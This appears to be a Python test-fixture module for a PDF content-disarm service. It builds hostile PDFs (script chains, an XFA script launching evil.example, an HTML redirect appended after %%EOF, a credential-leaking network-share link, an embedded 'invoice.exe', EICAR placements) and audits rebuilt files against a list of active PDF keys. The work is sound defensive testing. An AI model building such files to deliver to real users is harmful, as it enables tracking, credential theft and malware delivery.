"""PDFs that a content disarm must neutralise, and an audit of a stored PDF by a second parser.

The PDFs are built here with pikepdf, or assembled byte by byte where a library would not write them
(data after the end, an incremental update, an object nothing uses). Each starts from a plain letter
(`LETTER`) so that its text can be compared after the rebuild; tests/applicants/corpus.py has the
simpler hostile files of the upload tests.

`audit` reads a PDF with pypdf, not with the library that rebuilt it, and lists everything active it
still finds, with the page text and the links kept.
"""

import io
import re
import zlib
from collections.abc import Callable
from dataclasses import dataclass

import pikepdf
import pypdfium2 as pdfium
from pikepdf import Array, Dictionary, Name, String
from PIL import Image, ImageChops
from pypdf import PdfReader
from pypdf.generic import ArrayObject, DictionaryObject, IndirectObject, StreamObject

from tests.applicants import corpus

LETTER = "Motivation letter\nI would like to observe from 1 March 2027 until 26 March 2027."
EICAR = corpus.eicar()
HTML_PAYLOAD = b"<html><script>document.location='https://evil.example/'</script></html>"

# --- Building ----------------------------------------------------------------------------------------------------


def letter() -> bytes:
    return corpus.pdf_with_text(LETTER)


def open_action_chain(then: str) -> bytes:
    """An /OpenAction that only shows page 1, with /Next then running a web address, a form submission or a script."""
    chained = {
        "uri": Dictionary(S=Name.URI, URI=String("https://tracker.example/opened")),
        "submit": Dictionary(S=Name.SubmitForm, F=_url_spec("https://collect.example/form"), Flags=4),
        "javascript": Dictionary(S=Name.JavaScript, JS=String("app.alert('chained');")),
    }[then]

    def change(pdf: pikepdf.Pdf) -> None:
        page = pdf.pages[0].obj
        following = pdf.make_indirect(chained)
        pdf.Root.OpenAction = Dictionary(S=Name.GoTo, D=Array([page, Name.Fit]), Next=Array([following]))

    return _edited(change)


def xfa_form_with_script() -> bytes:
    """An XFA form whose template runs a script when it is initialised."""
    template = (
        b'<?xml version="1.0"?><xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/">'
        b'<template xmlns="http://www.xfa.org/schema/xfa-template/3.3/"><subform name="form1">'
        b'<event activity="initialize"><script contentType="application/x-javascript">'
        b"app.launchURL('https://evil.example/xfa');</script></event></subform></template></xdp:xdp>"
    )

    def change(pdf: pikepdf.Pdf) -> None:
        pdf.Root.AcroForm = Dictionary(Fields=Array(), XFA=pdf.make_stream(template))

    return _edited(change)


def widgets_submitting_and_importing() -> bytes:
    """Two push buttons (visible grey boxes): one submits the form to a web address, one imports form data."""

    def change(pdf: pikepdf.Pdf) -> None:
        submit = _widget(pdf, "send", (50, 600), Dictionary(S=Name.SubmitForm, F=_url_spec("https://collect.example/")))
        load = _widget(pdf, "load", (200, 600), Dictionary(S=Name.ImportData, F=String("answers.fdf")))
        load.AA = Dictionary(E=Dictionary(S=Name.SubmitForm, F=_url_spec("https://collect.example/hover")))
        pdf.pages[0].obj.Annots = Array([submit, load])
        pdf.Root.AcroForm = Dictionary(Fields=Array([submit, load]))

    return _edited(change)


def filled_in_form(value: str = "Jane Applicant") -> bytes:
    """A text field holding `value`, drawn by its appearance stream, with a script that runs on each keystroke."""

    def change(pdf: pikepdf.Pdf) -> None:
        font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
        drawing = b"/Tx BMC BT /Helv 12 Tf 2 5 Td (%s) Tj ET EMC" % value.encode()
        appearance = _form_xobject(pdf, drawing, width=200, resources=Dictionary(Font=Dictionary(Helv=font)))
        field = pdf.make_indirect(
            Dictionary(
                Type=Name.Annot, Subtype=Name.Widget, FT=Name.Tx, T=String("name"), V=String(value),
                Rect=Array([50, 600, 250, 620]), F=4, P=pdf.pages[0].obj, AP=Dictionary(N=appearance),
                AA=Dictionary(K=Dictionary(S=Name.JavaScript, JS=String("app.alert(event.change);"))),
            )
        )  # fmt: skip
        pdf.pages[0].obj.Annots = Array([field])
        pdf.Root.AcroForm = Dictionary(Fields=Array([field]), DA=String("/Helv 12 Tf 0 g"))

    return _edited(change)


def link_to_network_share(path: str = r"\\server\share\x.pdf") -> bytes:
    """A link that opens a PDF on a network share (which leaks the reader's Windows credentials)."""
    return _edited(lambda pdf: _add_links(pdf, Dictionary(S=Name.GoToR, F=String(path), D=Array([0, Name.Fit]))))


def links_of_every_kind() -> bytes:
    """Web and mail links (kept), script, file and share links (dropped), a jump to page 1 (kept as a destination)."""

    def change(pdf: pikepdf.Pdf) -> None:
        uris = ["https://www.umcg.nl/", "mailto:coordinator@example.org", "javascript:app.alert(1)", "file:///C:/x.exe"]
        actions = [Dictionary(S=Name.URI, URI=String(uri)) for uri in uris]
        actions.append(Dictionary(S=Name.URI, URI=String("https://chained.example/"), Next=_script("chained")))
        actions.append(Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit])))
        _add_links(pdf, *actions)

    return _edited(change)


def bookmarks_with_actions() -> bytes:
    """Two bookmarks: one runs a script, one jumps to page 1 through a GoTo action."""

    def change(pdf: pikepdf.Pdf) -> None:
        outlines = pdf.make_indirect(Dictionary(Type=Name.Outlines, Count=2))
        first = pdf.make_indirect(Dictionary(Title=String("Run"), Parent=outlines, A=_script("bookmark")))
        second = Dictionary(Title=String("Start"), Parent=outlines, Prev=first)
        second.A = Dictionary(S=Name.GoTo, D=Array([pdf.pages[0].obj, Name.Fit]))
        second = pdf.make_indirect(second)
        first.Next = second
        outlines.First, outlines.Last = first, second
        pdf.Root.Outlines = outlines

    return _edited(change)


def page_actions() -> bytes:
    """A page whose additional actions open a web page when shown and run a script when closed."""

    def change(pdf: pikepdf.Pdf) -> None:
        on_open = Dictionary(S=Name.URI, URI=String("https://tracker.example/seen"))
        pdf.pages[0].obj.AA = Dictionary(O=on_open, C=_script("closed"))

    return _edited(change)


def attachment_annotation_with_file(data: bytes = b"MZ not really a program") -> bytes:
    """A file attachment annotation (drawn as a small box) carrying an embedded file."""

    def change(pdf: pikepdf.Pdf) -> None:
        stream = pdf.make_stream(data, Type=Name.EmbeddedFile)
        spec = Dictionary(
            Type=Name.Filespec, F=String("invoice.exe"), UF=String("invoice.exe"), EF=Dictionary(F=stream)
        )
        box = _form_xobject(pdf, b"0.5 g 0 0 20 20 re f", width=20)
        annotation = Dictionary(
            Type=Name.Annot, Subtype=Name.FileAttachment, Rect=Array([300, 600, 320, 620]), F=4, FS=spec,
            AP=Dictionary(N=box),
        )  # fmt: skip
        pdf.pages[0].obj.Annots = Array([pdf.make_indirect(annotation)])

    return _edited(change)


def with_bytes_after_end(payload: bytes = HTML_PAYLOAD) -> bytes:
    """`payload` appended after the final %%EOF (a polyglot: a browser or unzip may read it)."""
    return letter() + b"\n" + payload + b"\n"


def with_incremental_update() -> bytes:
    """The letter, then an incremental update that adds a script run on opening and a new cross-reference."""
    base = letter()
    with pikepdf.open(io.BytesIO(base)) as pdf:
        root_number = pdf.Root.objgen[0]
        size = int(pdf.trailer.Size)
        catalog = pdf.Root.unparse(resolved=True)
    script_number = size
    catalog = catalog[: catalog.rindex(b">>")] + b" /OpenAction %d 0 R >>" % script_number
    previous = int(base.rsplit(b"startxref", 1)[1].split()[0])
    update = bytearray(base)
    offsets = {}
    for number, body in ((root_number, catalog), (script_number, b"<< /S /JavaScript /JS (app.alert('update')) >>")):
        offsets[number] = len(update)
        update += b"%d 0 obj\n%s\nendobj\n" % (number, body)
    xref = len(update)
    update += b"xref\n0 1\n0000000000 65535 f \n"
    for number, offset in sorted(offsets.items()):
        update += b"%d 1\n%010d 00000 n \n" % (number, offset)
    update += b"trailer\n<< /Size %d /Root %d 0 R /Prev %d >>\n" % (size + 1, root_number, previous)
    update += b"startxref\n%d\n%%%%EOF\n" % xref
    return bytes(update)


def eicar_after_end() -> bytes:
    return with_bytes_after_end(EICAR)


def eicar_in_unused_object() -> bytes:
    """The test signature in a stream object that nothing refers to."""
    return corpus.assemble_pdf({**_letter_objects(), 9: _stream_body(EICAR)})


def eicar_in_attachment() -> bytes:
    return corpus.pdf_with_attachment(name="eicar.com", data=EICAR)


def eicar_in_page_content(*, compressed: bool) -> bytes:
    """The test signature in a comment of the page's own content stream, which the rebuild keeps."""
    content = b"%" + EICAR + b"\n" + _LETTER_CONTENT
    return corpus.assemble_pdf({**_letter_objects(), 5: _stream_body(content, compressed=compressed)})


# --- Auditing ----------------------------------------------------------------------------------------------------

_ACTIONS = frozenset({
    "/GoTo", "/GoToR", "/GoToE", "/GoToDp", "/Launch", "/Thread", "/URI", "/Sound", "/Movie", "/Hide",
    "/Named", "/SubmitForm", "/ResetForm", "/ImportData", "/JavaScript", "/SetOCGState", "/Rendition",
    "/Trans", "/GoTo3DView", "/RichMediaExecute"
})  # fmt: skip
_ACTIVE_KEYS = frozenset(
    {"/JS", "/JavaScript", "/AA", "/OpenAction", "/AcroForm", "/XFA", "/EmbeddedFiles", "/EF", "/AF", "/RF"}
)
_ACTIVE_ANNOTATIONS = frozenset({"/Widget", "/FileAttachment", "/Screen", "/Movie", "/Sound", "/RichMedia", "/3D"})
_PLAIN_LINK = re.compile(r"(https?://|mailto:)\S+\Z", re.IGNORECASE)


@dataclass(frozen=True)
class Audit:
    problems: list[str]  # everything active found, as words
    text: str  # the text of every page
    links: list[str]  # the web and mail addresses of the link annotations


def audit(data: bytes) -> Audit:
    """What pypdf finds in `data`: actions other than plain http(s)/mailto links, scripts, forms, attached files,
    bytes after the end, more than one revision, the EICAR test signature."""
    problems = _file_problems(data)
    reader = PdfReader(io.BytesIO(data), strict=True)
    problems += [f"trailer has {key}" for key in ("/Prev", "/Encrypt", "/XRefStm") if key in reader.trailer]
    links: list[str] = []
    for node, owner, key in _objects(reader):
        problems += _object_problems(node, owner, key, links)
    return Audit(problems=problems, text=text_of(data), links=links)


def text_of(data: bytes) -> str:
    return "\n".join(page.extract_text() for page in PdfReader(io.BytesIO(data)).pages)


def looks_the_same(original: bytes, stored: bytes, *, tolerance: int = 0) -> bool:
    """Every page drawn by pdfium, form fields included, gives the same pixels (grey levels at most `tolerance`
    apart: pdfium draws a form field's text itself, a flattened one from its appearance, anti-aliased apart)."""
    before, after = pdfium.PdfDocument(original), pdfium.PdfDocument(stored)
    before.init_forms()
    after.init_forms()
    try:
        if len(before) != len(after):
            return False
        return all(_same(_drawn(before[n]), _drawn(after[n]), tolerance) for n in range(len(before)))
    finally:
        before.close()
        after.close()


def _file_problems(data: bytes) -> list[str]:
    problems = []
    if not data.rstrip(b"\r\n\t\x0c\x00 ").endswith(b"%%EOF"):
        problems.append("bytes after the final %%EOF")
    if data.count(b"%%EOF") != 1 or data.count(b"startxref") != 1:
        problems.append("more than one revision")
    if EICAR in data:
        problems.append("EICAR in the file's bytes")
    return problems


def _objects(reader: PdfReader):
    """(dictionary, the dictionary holding it, its key there) for every dictionary reachable from the trailer."""
    seen: set[int] = set()
    stack: list = [(reader.trailer, None, "")]
    while stack:
        node, owner, key = stack.pop()
        if isinstance(node, IndirectObject):
            if node.idnum in seen:
                continue
            seen.add(node.idnum)
            node = node.get_object()
        if isinstance(node, DictionaryObject):
            yield node, owner, key
            stack.extend((value, node, name) for name, value in node.items())
        elif isinstance(node, ArrayObject):
            stack.extend((value, owner, key) for value in node)


def _object_problems(node: DictionaryObject, owner, key: str, links: list[str]) -> list[str]:
    problems = [f"{name} entry" for name in node if name in _ACTIVE_KEYS]
    subtype = node.get("/Subtype")
    if subtype in _ACTIVE_ANNOTATIONS:
        problems.append(f"{subtype} annotation")
    if node.get("/Type") == "/EmbeddedFile":
        problems.append("embedded file")
    if isinstance(node, StreamObject) and EICAR in node.get_data():
        problems.append("EICAR in a stream")
    if node.get("/S") in _ACTIONS or node.get("/Type") == "/Action":
        uri = str(node.get("/URI", ""))
        in_link = key == "/A" and owner is not None and owner.get("/Subtype") == "/Link"
        if node.get("/S") == "/URI" and _PLAIN_LINK.match(uri) and in_link and "/Next" not in node:
            links.append(uri)
        else:
            problems.append(f"{node.get('/S')} action under {key or 'the trailer'}")
    return problems


def _drawn(page) -> Image.Image:
    return page.render(scale=1, may_draw_forms=True).to_pil().convert("RGB")


def _same(first: Image.Image, second: Image.Image, tolerance: int) -> bool:
    if first.size != second.size:
        return False
    return ImageChops.difference(first, second).convert("L").getextrema()[1] <= tolerance


# --- Parts -------------------------------------------------------------------------------------------------------

_LETTER_CONTENT = b"BT /F1 12 Tf 50 800 Td (Motivation letter) Tj ET"


def _letter_objects() -> dict[int, bytes]:
    """A one-page letter by hand: catalog 1, pages 2, page 3, font 4, content 5."""
    return {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Resources << /Font << /F1 4 0 R >> >> "
        b"/Contents 5 0 R >>",
        4: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
        5: _stream_body(_LETTER_CONTENT),
    }


def _stream_body(data: bytes, *, compressed: bool = False) -> bytes:
    if compressed:
        data = zlib.compress(data)
        return b"<< /Length %d /Filter /FlateDecode >>\nstream\n%s\nendstream" % (len(data), data)
    return b"<< /Length %d >>\nstream\n%s\nendstream" % (len(data), data)


def _edited(change: Callable[[pikepdf.Pdf], None]) -> bytes:
    with pikepdf.open(io.BytesIO(letter())) as pdf:
        change(pdf)
        buffer = io.BytesIO()
        pdf.save(buffer)
    return buffer.getvalue()


def _url_spec(url: str) -> Dictionary:
    return Dictionary(FS=Name.URL, F=String(url))


def _script(name: str) -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String(f"app.alert('{name}');"))


def _form_xobject(pdf: pikepdf.Pdf, drawing: bytes, *, width: int, resources: Dictionary | None = None):
    stream = pdf.make_stream(drawing, Type=Name.XObject, Subtype=Name.Form, BBox=Array([0, 0, width, 20]))
    if resources is not None:
        stream.Resources = resources
    return stream


def _widget(pdf: pikepdf.Pdf, name: str, corner: tuple[int, int], action: Dictionary):
    x, y = corner
    return pdf.make_indirect(
        Dictionary(
            Type=Name.Annot, Subtype=Name.Widget, FT=Name.Btn, Ff=65536, T=String(name), F=4,
            Rect=Array([x, y, x + 120, y + 20]), P=pdf.pages[0].obj, A=action,
            AP=Dictionary(N=_form_xobject(pdf, b"0.8 g 0 0 120 20 re f", width=120)),
        )
    )  # fmt: skip


def _add_links(pdf: pikepdf.Pdf, *actions: Dictionary) -> None:
    links = [
        pdf.make_indirect(
            Dictionary(
                Type=Name.Annot,
                Subtype=Name.Link,
                Rect=Array([50, 700 - 30 * n, 250, 720 - 30 * n]),
                Border=Array([0, 0, 0]),
                A=action,
            )
        )
        for n, action in enumerate(actions)
    ]
    pdf.pages[0].obj.Annots = Array(links)
